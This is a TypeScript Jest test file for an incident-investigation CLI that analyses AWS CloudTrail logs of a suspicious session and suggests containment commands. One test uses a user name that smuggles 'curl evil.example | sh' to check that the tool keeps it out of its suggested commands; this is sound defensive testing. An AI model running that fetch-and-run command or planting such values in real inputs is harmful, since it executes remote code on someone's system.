import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { text } from 'node:stream/consumers';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { placeholderCredentials } from '../../aws/dynalite-server.ts';
import { samplesFolder } from '../../samples.ts';
import { door, firstsight, firstsightProcess, root } from '../firstsight.ts';
import { hostileTexts } from '../simulate/corpus.ts';
import { byKey, federated, issue, issuedKey, own, record, signIn, write } from './corpus.ts';

const samples = [join(samplesFolder, 'AWSLogs'), join(samplesFolder, 'investigation')];
const sampleKey = 'ASIAISSUED234EXAMPLE';
let folder: string;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'firstsight-investigate-'));
});
afterAll(() => rmSync(folder, { recursive: true }));

const investigate = (...args: readonly string[]) => firstsight(['investigate', ...args]);

function lines(stdout: string) {
  return stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
}

describe('firstsight investigate', () => {
  test('tells of the sample session what it did, what to look at first, and how to contain it', async () => {
    const { stdout, stderr, status } = await investigate('--key', sampleKey, ...samples);
    expect(status).toBe(0);
    expect(stdout).toMatch(
      /^key ASIAISSUED234EXAMPLE, federated user aws_consoler of user ci-deploy in 111122223333\n/,
    );
    expect(stdout).toContain('43 calls: 41 succeeded, 1 denied, 1 failed; 19 actions');
    expect(stdout).toContain('expired: the session ended at 2026-03-10T10:47:03Z');
    expect(stdout).toMatch(
      /! logging or detection switched off +cloudtrail StopLogging on .*, denied \(AccessDenied\)/,
    );
    expect(stdout).toMatch(
      /! secrets read +secretsmanager GetSecretValue on secret:orders-db-AbCdEf and 1 more, 2 calls/,
    );
    expect(stdout).toMatch(/23:21:12 - 23:30:41 +24 {2}s3 GetObject {2}! data read in bulk/);
    expect(stdout).toContain('on arn:aws:secretsmanager:us-east-1:111122223333:secret:payments-api-GhIjKl');
    expect(stdout).toContain('27 by key, 16 in the console');
    expect(stdout).toContain('regions         us-east-1 (41), eu-west-1 (2)');
    expect(stdout).toContain('look at it too, with --key AKIABACKUPADMEXAMPLE');
    expect(stdout).toContain('aws iam put-user-policy --user-name ci-deploy --policy-name FirstsightDenyAll');
    expect(stdout).toContain('--user-name backup-admin --access-key-id AKIABACKUPADMEXAMPLE --status Inactive');
    expect(stdout).not.toContain('StartBuild');
    expect(stderr).toBe('log files: 34 read, 1 skipped (digest-file), 0 failed; 207 kB inflated\n');
  });

  test('as ndjson gives a session line, one for each action and made key, and an end, which agree', async () => {
    const all = lines((await investigate('--key', sampleKey, '--around', '--format', 'ndjson', ...samples)).stdout);
    const groups = all.filter(({ kind, of }) => kind === 'group' && of === 'session');
    const sum = (field: string) => groups.reduce((total, group) => total + group[field], 0);
    expect(all[0]).toMatchObject({
      ...{ kind: 'session', keyId: sampleKey, validity: 'expired', issuedAt: '2026-03-08T22:47:03Z' },
      ...{ calls: sum('calls'), denied: sum('denied'), failed: sum('failed'), groups: groups.length },
      marked: groups.filter(({ mark }) => mark).length,
    });
    expect(groups.find(({ action }) => action === 'CreateAccessKey')).toMatchObject({
      ...{ service: 'iam', mark: 'new-credentials', calls: 1, denied: 0, via: { console: 1 } },
      ...{ first: '2026-03-08T23:07:02Z', regions: ['us-east-1'], addresses: ['192.0.2.200'] },
      resources: ['backup-admin'],
    });
    expect(all.filter(({ of }) => of === 'base-user').map(({ action }) => action)).toEqual([
      ...['StartBuild', 'GetCallerIdentity', 'GetFederationToken', 'ListAccessKeys'],
    ]);
    expect(all.filter(({ kind }) => kind === 'key')).toMatchObject([{ keyId: 'AKIABACKUPADMEXAMPLE' }]);
    expect(all.at(-1)).toMatchObject({ kind: 'end', found: true, logFiles: 34, regions: ['eu-west-1', 'us-east-1'] });
  });

  test('takes the alert that detect gives, from a file or from stdin', async () => {
    const alerts = (await firstsight(['detect', '--format', 'ndjson', ...samples])).stdout.split('\n');
    const alert = alerts.find((line) => line.includes(sampleKey)) ?? '';
    const file = join(folder, 'alert.json');
    writeFileSync(file, alert);
    const expected = (await investigate('--key', sampleKey, '--format', 'ndjson', ...samples)).stdout;
    expect((await investigate('--alert', file, '--format', 'ndjson', ...samples)).stdout).toBe(expected);
    expect(firstsightProcess(['investigate', '--alert', '-', '--format', 'ndjson', ...samples], {}, alert).stdout).toBe(
      expected,
    );
  });

  test('follows a key that the session made, and tells how to deactivate it', async () => {
    const { stdout } = await investigate('--key', 'AKIABACKUPADMEXAMPLE', ...samples);
    expect(stdout).toContain('key AKIABACKUPADMEXAMPLE, user backup-admin in 111122223333\n2 calls: 2 succeeded');
    expect(stdout).toContain('aws iam update-access-key --user-name backup-admin --access-key-id AKIABACKUPADMEXAMPLE');
  });

  test('says in how many log files of which time it found nothing, and what to check, and ends with 0', async () => {
    const { stdout, status } = await investigate('--key', 'ASIANOBODYHASEXAMPLE', samples[1] ?? '');
    expect(status).toBe(0);
    expect(stdout).toContain('no call of this key in 8 log files from 2026-03-08T22:35:00Z to 2026-03-09T00:20:00Z');
    expect(stdout).toMatch(/WHAT TO CHECK\n {2}Days: .*\n(.*\n)? {2}Regions: .*\n(.*\n)? {2}Data events: /);
    expect(stdout).toContain('aws sts get-access-key-info --access-key-id ASIANOBODYHASEXAMPLE');
  });

  test('of days before the session finds nothing either', async () => {
    const { stdout } = await investigate('--key', sampleKey, '--from', '2026-03-01', '--to', '2026-03-07', ...samples);
    expect(stdout).toContain('no call of this key in 34 log files');
  });

  test('goes on after a log file that it cannot read, says so in the report too, and ends with 1', async () => {
    const broken = join(folder, 'broken.json');
    writeFileSync(broken, '{"Records":[');
    const { stdout, stderr, status } = await investigate('--key', sampleKey, broken, ...samples);
    expect(status).toBe(1);
    expect(stdout).toContain('1 log file could not be read (named on stderr), so there may be more.');
    expect(stderr.split('\n').filter((line) => line.startsWith(`failed: ${broken}: `))).toHaveLength(1);
  });

  test('writes the page that it was asked for', async () => {
    const page = join(folder, 'session.html');
    const { stderr, status } = await investigate('--key', sampleKey, '--html', page, ...samples);
    expect(status).toBe(0);
    expect(stderr).toContain(`page: ${page}`);
    expect(readFileSync(page, 'utf8')).toMatch(/^<!doctype html>.*<\/html>\n$/s);
  });

  test.each([
    [['samples'], 'Say which session: --key ASIA…, --alert FILE or --user ARN.'],
    [['--key', sampleKey], 'missing required argument'],
    [['--key', 'secret', 'samples'], '"secret" is no access key id'],
    [['--user', 'alice', 'samples'], '"alice" is neither the ARN of a federated user'],
    [['--alert', 'no-such-file.json', 'samples'], 'no-such-file.json cannot be read'],
    [['--key', sampleKey, '--user', 'x', 'samples'], 'cannot be used with'],
    [['--key', sampleKey, '--last', 'soon', 'samples'], 'such as 12h, 10d or 2w'],
    [['--key', sampleKey, '--html', 'no/such/folder/report.html', 'samples'], 'no/such/folder'],
  ])('%j is wrong usage: 2, with a sentence and no stack trace', async (args, sentence) => {
    const { stdout, stderr, status } = await investigate(...args);
    expect({ stdout, status }).toEqual({ stdout: '', status: 2 });
    expect(stderr).toContain(sentence);
    expect(stderr).not.toMatch(/^\s+at /m);
  });

  test('--help shows two examples, and the first of them works', async () => {
    const { stdout, status } = await investigate('--help');
    expect(status).toBe(0);
    const examples = [...stdout.matchAll(/^ {2}firstsight investigate (.*)$/gm)].map(([, args = '']) => args);
    expect(examples).toHaveLength(2);
    const first = examples[0]?.replace('session.html', join(folder, 'example.html')).split(' ') ?? [];
    expect((await investigate(...first)).stdout).toContain('43 calls');
  });
});

const realRecord = resolve(root, '../shared/data/records/stratus-red-team-success.json');
if (!existsSync(realRecord)) console.warn(`no real record is investigated: ${realRecord} is absent`);

(existsSync(realRecord) ? test : test.skip)(
  'a real record of an issue tells the session, its end, and that nobody used it',
  async () => {
    const { stdout, status } = await investigate('--key', 'ASIASTJKC5GCM7ZE6LUP', '--format', 'ndjson', realRecord);
    expect(status).toBe(0);
    expect(lines(stdout)).toMatchObject([
      { kind: 'session', issuedAt: '2024-11-30T08:43:17Z', expiresAt: '2024-11-30T20:43:17Z', calls: 0 },
      { kind: 'end', found: false, logFiles: 1 },
    ]);
  },
);

/** Everything that the holder of a session, or whoever names its things, can write into a log file. */
const hostileRecords = [
  issue(),
  ...hostileTexts.flatMap((hostile, i) => [
    byKey(i, {
      eventName: `Get${hostile}`,
      eventSource: hostile,
      userAgent: hostile,
      sourceIPAddress: hostile,
      awsRegion: hostile,
      errorCode: hostile,
      requestParameters: { userName: hostile, sessionToken: 'EXAMPLE-SESSION-TOKEN' },
    }),
    byKey(i, { responseElements: { accessKey: { accessKeyId: hostile, userName: hostile } } }),
    signIn(i, { userAgent: hostile }),
    record(i, { userIdentity: own(), userAgent: hostile, eventName: hostile }),
  ]),
];

describe('texts that callers chose', () => {
  test.each(['text', 'ndjson'])('steer no terminal and tell no secret: %s', async (format) => {
    const { stdout } = await investigate('--key', issuedKey, '--around', '--format', format, write(hostileRecords));
    expect(stdout.length).toBeGreaterThan(1_000);
    expect(stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069]/);
    expect(stdout).not.toContain('EXAMPLE-SESSION-TOKEN');
  });

  test('hold nothing that cannot be seen when a program takes them out of ndjson', async () => {
    const { stdout } = await investigate('--key', issuedKey, '--around', '--format', 'ndjson', write(hostileRecords));
    const texts: string[] = [];
    for (const line of stdout.trimEnd().split('\n')) {
      JSON.parse(line, (_, value) => {
        if (typeof value === 'string') texts.push(value);
        return value;
      });
    }
    expect(texts.length).toBeGreaterThan(100);
    expect(texts.filter((shown) => /[\p{Cc}\p{Cf}\p{Cs}]/u.test(shown))).toEqual([]);
  });

  test('are put into no command', async () => {
    const name = "x'; curl evil.example | sh; '";
    const base = { ...own(`arn:aws:iam::111122223333:user/${name}`), userName: name };
    const made = { accessKey: { accessKeyId: 'AKIABACKUPADMEXAMPLE', userName: name } };
    const userIdentity = federated(issuedKey, { issuedBy: base });
    const folderOfRecords = write([
      issue(0, issuedKey, { userIdentity: base }),
      record(1, { userIdentity, responseElements: made }),
    ]);
    const { stdout } = await investigate('--key', issuedKey, folderOfRecords);
    const commands = stdout.split('\n').filter((line) => /^ {4}\S/.test(line));
    expect(commands.length).toBeGreaterThan(0);
    expect(commands.filter((line) => line.includes('curl'))).toEqual([]);
    expect(stdout).toContain('contains unusual characters: copy it from the record manually');
  });
});

describe('firstsight investigate over s3://', () => {
  test('reads of an alert only the days of the session, and shows what it has when Ctrl-C stops it', async () => {
    const asked: string[] = [];
    const body = gzipSync(JSON.stringify({ Records: [issue(), byKey(1)] }));
    const keys = Array.from({ length: 40 }, (_, i) => `${logFileKey}_${i}.json.gz`);
    let interrupted = false;
    const bucket = createServer(({ url = '' }, response) => {
      const { searchParams } = new URL(url, 'http://localhost');
      if (!searchParams.has('list-type')) {
        if (!interrupted) child.kill('SIGINT');
        interrupted = true;
        return setTimeout(() => response.end(body), 300);
      }
      const prefix = searchParams.get('prefix') ?? '';
      if (!searchParams.has('delimiter')) asked.push(prefix);
      return response.end(listing(prefix, searchParams.has('delimiter'), keys));
    });
    await new Promise<void>((ready) => bucket.listen(0, '127.0.0.1', ready));
    const endpoint = `http://127.0.0.1:${(bucket.address() as AddressInfo).port}`;
    const alert = join(folder, 'one.json');
    const args = ['--format', 'ndjson', write([issue()])];
    writeFileSync(alert, (await firstsight(['detect', ...args])).stdout);
    const child = spawn(
      process.execPath,
      [...door, 'investigate', '--alert', alert, '--format', 'ndjson', 's3://trail-bucket/AWSLogs/'],
      {
        cwd: root,
        env: { ...process.env, ...placeholderCredentials, AWS_ENDPOINT_URL_S3: endpoint },
      },
    );
    const status = new Promise((ended) => child.on('close', ended));
    const [stdout, stderr] = await Promise.all([text(child.stdout), text(child.stderr)]);
    bucket.close();
    expect(asked.map((prefix) => prefix.slice(-11)).sort()).toEqual([
      ...['2026/02/27/', '2026/02/28/', '2026/03/01/', '2026/03/02/'],
    ]);
    expect(await status).toBe(1);
    const all = lines(stdout);
    expect(all[0]).toMatchObject({ kind: 'session', calls: 1 });
    expect(all.at(-1).logFiles + all.at(-1).logFilesLeft).toBe(keys.length);
    expect(all.at(-1).logFilesLeft).toBeGreaterThan(0);
    expect(stderr).toContain('so there may be more than this; run the same command again');
  });
});

const region = 'AWSLogs/111122223333/CloudTrail/us-east-1/';
const logFileKey = `${region}2026/03/01/111122223333_CloudTrail_us-east-1_20260301T1000Z`;

function listing(prefix: string, folders: boolean, keys: readonly string[]): string {
  const below =
    region.startsWith(prefix) && region !== prefix ? region.slice(0, region.indexOf('/', prefix.length) + 1) : '';
  const contents = folders
    ? `<CommonPrefixes><Prefix>${below}</Prefix></CommonPrefixes>`
    : keys
        .filter((key) => key.startsWith(prefix))
        .map((key) => `<Contents><Key>${key}</Key><Size>1</Size></Contents>`)
        .join('');
  return `<ListBucketResult><Name>trail-bucket</Name><IsTruncated>false</IsTruncated>${contents}</ListBucketResult>`;
}
